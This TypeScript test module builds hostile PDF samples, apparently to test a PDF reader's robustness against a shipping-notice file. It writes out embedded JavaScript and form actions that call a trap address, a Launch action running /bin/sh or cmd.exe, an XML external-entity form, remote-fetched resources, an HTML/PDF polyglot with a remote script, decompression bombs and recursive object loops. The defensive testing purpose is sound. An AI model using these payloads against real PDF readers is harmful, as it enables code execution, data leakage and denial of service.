/** Hostile PDFs: scripts and actions, loops of objects, bombs, impossible sizes, damage. */
import { deflateSync } from 'node:zlib';
import { bytesOf, cutOff, damaged, type HostileFile, type Hostility, joined, type Outcome } from './hostile-file.ts';

const pdfFile = { fileName: 'notice.pdf', contentType: 'application/pdf' };
const MEGABYTE = 1024 * 1024;

type Part = string | { head: string; stream: string | Uint8Array };

/** Returns a PDF of these objects, numbered from 1. The first one is the catalogue. */
export function pdfOf(objects: readonly Part[], trailer = ''): Uint8Array {
  const bodies = objects.map((part, index) => {
    const head = typeof part === 'string' ? part : `<< ${part.head} /Length ${part.stream.length} >>`;
    const stream = typeof part === 'string' ? [] : ['\nstream\n', part.stream, '\nendstream'];
    return joined(`${index + 1} 0 obj\n`, head, ...stream, '\nendobj\n');
  });
  return joined('%PDF-1.7\n', ...bodies, `trailer\n<< /Root 1 0 R ${trailer} >>\n%%EOF`);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const TEXT = 'BT /F1 12 Tf 20 150 Td (ARRIVAL NOTICE Container MSCU6683873) Tj ET';
const page = (rest = '', box = '0 0 300 200') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> ${rest} >>`;
const withText = (rest = '', box?: string) => [CATALOG, PAGES, page(rest, box), { head: '', stream: TEXT }, FONT];
const withCatalog = (rest: string, ...more: Part[]) => [
  `<< /Type /Catalog /Pages 2 0 R ${rest} >>`,
  ...withText().slice(1),
  ...more,
];
const drawn = (stream: string | Uint8Array, head = '') => [CATALOG, PAGES, page(), { head, stream }, FONT];
const drawing = (xobject: Part) => [...drawn(`${TEXT} /X Do`), xobject];
const deflated = (bytes: Uint8Array, rounds: number): Uint8Array =>
  rounds === 0 ? bytes : deflated(new Uint8Array(deflateSync(bytes, { level: 9 })), rounds - 1);
const FLATE = '/Filter /FlateDecode';

export function hostilePdfs(hostility: Hostility): HostileFile[] {
  const { trap } = hostility;
  const pdf = (name: string, objects: () => readonly Part[], ...outcomes: Outcome[]): HostileFile => ({
    ...{ ...pdfFile, name: `PDF ${name}`, bytes: () => pdfOf(objects()) },
    ...(outcomes.length === 0 ? {} : { outcomes }),
  });
  const raw = (name: string, bytes: () => Uint8Array, ...outcomes: Outcome[]) => ({
    ...pdf(name, () => [], ...outcomes),
    bytes,
  });
  const heavy = (file: HostileFile): HostileFile => ({ ...file, isHeavy: true });
  const encrypted = (handler: string) =>
    raw(
      `encrypted by ${handler}`,
      () =>
        pdfOf(
          [...withText(), `<< /Filter /${handler} /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`],
          '/Encrypt 6 0 R /ID [<00> <00>]',
        ),
      'encrypted',
      'not_readable',
    );
  const script = `app.launchURL("${trap}"); this.submitForm("${trap}"); for(;;);`.replaceAll(/[()]/g, '\\$&');
  return [
    pdf('with a script on opening', () => withCatalog(`/OpenAction << /S /JavaScript /JS (${script}) >>`), 'read'),
    pdf(
      'with a script by name',
      () => withCatalog(`/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>`),
      'read',
    ),
    pdf(
      'with scripts on every event',
      () => withText(`/AA << /O << /S /JavaScript /JS (${script}) >> /C << /S /JavaScript /JS (${script}) >> >>`),
      'read',
    ),
    pdf(
      'that starts a program',
      () => withCatalog('/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
      'read',
    ),
    pdf('that opens an address', () => withCatalog(`/OpenAction << /S /URI /URI (${trap}) >>`), 'read'),
    pdf(
      'that submits a form',
      () => withCatalog(`/OpenAction << /S /SubmitForm /F << /FS /URL /F (${trap}) >> >>`),
      'read',
    ),
    pdf(
      'that opens another file',
      () => withCatalog(`/OpenAction << /S /GoToR /F << /FS /URL /F (${trap}) >> /D [0 /Fit] >>`),
      'read',
    ),
    pdf(
      'with a form that declares entities',
      () =>
        withCatalog('/AcroForm << /XFA 6 0 R >>', {
          head: '',
          stream: `<!DOCTYPE x [<!ENTITY e SYSTEM "${trap}">]><xdp:xdp>&e;</xdp:xdp>`,
        }),
      'read',
    ),
    pdf('whose content is at an address', () => [
      CATALOG,
      PAGES,
      page(),
      { head: `/F << /FS /URL /F (${trap}) >>`, stream: TEXT },
      FONT,
    ]),
    pdf('whose font is at an address', () => [
      ...drawn(TEXT).slice(0, 4),
      `<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor << /Type /FontDescriptor /FontFile2 << /F << /FS /URL /F (${trap}) >> >> >> >>`,
    ]),
    pdf(
      'whose picture is at an address',
      () =>
        drawing({
          head: `/Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${trap}) >>`,
          stream: '',
        }),
      'read',
    ),
    pdf(
      'whose pages hold themselves',
      () => [CATALOG, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 5 >>'],
      'no_text',
      'not_readable',
    ),
    pdf('whose pages hold each other', () => [
      CATALOG,
      '<< /Type /Pages /Kids [3 0 R] /Count 9 >>',
      '<< /Type /Pages /Kids [2 0 R] /Count 9 >>',
    ]),
    pdf('whose page is its own parent', () => [CATALOG, PAGES, '<< /Type /Page /Parent 3 0 R >>']),
    pdf(
      'whose outline is a loop',
      () =>
        withCatalog('/Outlines 6 0 R', '<< /First 7 0 R /Last 7 0 R >>', '<< /Title (a) /Next 7 0 R /Parent 6 0 R >>'),
      'read',
    ),
    pdf('whose form draws itself', () =>
      drawing({
        head: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
        stream: '/X Do /X Do',
      }),
    ),
    pdf('whose length is itself', () => [
      CATALOG,
      PAGES,
      page(),
      '<< /Length 4 0 R >>\nstream\nBT ET\nendstream',
      FONT,
    ]),
    pdf('whose font draws itself', () => [
      ...drawn(TEXT).slice(0, 4),
      '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /A 4 0 R >> /Encoding << /Differences [65 /A] >> /FirstChar 65 /LastChar 65 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>',
    ]),
    raw('whose table of objects is a loop', () => joined(pdfOf(withText(), '/Prev 9'), '\nstartxref\n9\n%%EOF')),
    raw(
      'whose table of objects lies outside',
      () => joined(pdfOf(withText()), '\nstartxref\n99999999999\n%%EOF'),
      'read',
    ),
    raw('of nothing but its mark', () => bytesOf('%PDF-1.7\n'), 'not_readable'),
    raw('whose mark comes late', () => joined(' '.repeat(1_000), pdfOf(withText())), 'read'),
    heavy(pdf('of 10,000 pages', () => manyPages(10_000), 'too_large')),
    pdf(
      'that claims two billion pages',
      () => [CATALOG, '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>', ...withText().slice(2)],
      'read',
      'no_text',
    ),
    pdf('that claims fewer than no pages', () => [
      CATALOG,
      '<< /Type /Pages /Kids [3 0 R] /Count -9 >>',
      ...withText().slice(2),
    ]),
    ...['0 0 1e30 1e30', '0 0 0 0', '300 200 0 0', 'null null null null', '0 0 1 100000', '-9e9 -9e9 9e9 9e9'].map(
      (box) => pdf(`with a page of ${box}`, () => withText('', box)),
    ),
    pdf('with a page turned by 45 degrees', () => withText('/Rotate 45 /UserUnit 1e9')),
    heavy(
      pdf('whose content unpacks to 300 MB', () => drawn(deflated(new Uint8Array(300 * MEGABYTE).fill(32), 1), FLATE)),
    ),
    heavy({
      ...pdf('whose content is packed three times', () =>
        drawn(deflated(new Uint8Array(900 * MEGABYTE), 3), '/Filter [/FlateDecode /FlateDecode /FlateDecode]'),
      ),
      mayBeEnded: true,
    }),
    heavy(
      pdf('with a million drawn words', () =>
        drawn(deflated(bytesOf(`BT /F1 9 Tf ${'(word ) Tj '.repeat(1_000_000)} ET`), 1), FLATE),
      ),
    ),
    heavy(pdf('with a million saved states', () => drawn(deflated(bytesOf('q '.repeat(1_000_000)), 1), FLATE))),
    pdf('with arrays 100,000 deep', () => [
      CATALOG,
      PAGES,
      page(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`),
      { head: '', stream: TEXT },
      FONT,
    ]),
    pdf('with dictionaries 50,000 deep', () => withCatalog(`/X ${'<</X '.repeat(50_000)}${'>>'.repeat(50_000)}`)),
    pdf('with a string that never ends', () => withCatalog(`/X (${'('.repeat(100_000)}`)),
    pdf('with places that are no numbers', () => drawn('BT /F1 1e39 Tf 1e39 -1e39 NaN 1 2 . Tm (MSCU6683873) Tj ET')),
    pdf('with a character map of all characters', () => [
      ...withText().slice(0, 4),
      '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X >>] >>',
      { head: '', stream: `/CMapName /X usecmap ${'1 beginbfrange <0000> <FFFF> <0000> endbfrange '.repeat(200)}` },
    ]),
    heavy(
      pdf('with a picture of 65,535 × 65,535 pixels', () =>
        drawing({
          head: `/Type /XObject /Subtype /Image /Width 65535 /Height 65535 /ColorSpace /DeviceRGB /BitsPerComponent 8 ${FLATE}`,
          stream: deflated(new Uint8Array(9 * MEGABYTE), 1),
        }),
      ),
    ),
    ...[
      'JBIG2Decode',
      'JPXDecode',
      'CCITTFaxDecode',
      'DCTDecode',
      'LZWDecode',
      'RunLengthDecode',
      'ASCII85Decode',
      'Crypt',
    ].map((filter) =>
      pdf(
        `with a broken picture of ${filter}`,
        () =>
          drawing({
            head: `/Type /XObject /Subtype /Image /Width 99 /Height 99 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /${filter}`,
            stream: '\u0000\u00ff\u0097JB2\r\n'.repeat(50),
          }),
        'read',
      ),
    ),
    ...['Standard', 'Unknown'].map(encrypted),
    raw(
      'that is a page of HTML too',
      () => joined(`<html><script src="${trap}"></script><!--`, pdfOf(withText()), '-->'),
      'read',
    ),
    raw('that is a script too', () => joined('/*', pdfOf(withText()), '*/process.exit(1)'), 'read'),
    raw(
      'that holds itself as an attachment',
      () =>
        pdfOf(
          withCatalog('/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 6 0 R >> >>] >> >>', {
            head: '/Type /EmbeddedFile',
            stream: pdfOf(withText()),
          }),
        ),
      'read',
    ),
    ...cutOff({ ...pdfFile, bytes: () => pdfOf(withText()) }, 'PDF', [0.02, 0.1, 0.25, 0.5, 0.75, 0.95]),
    ...damaged(hostility, { ...pdfFile, bytes: () => pdfOf(withText()) }, 'PDF', 8),
  ];
}

function manyPages(count: number): Part[] {
  const kids = Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ');
  const pages = Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>');
  return [CATALOG, `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, ...pages];
}
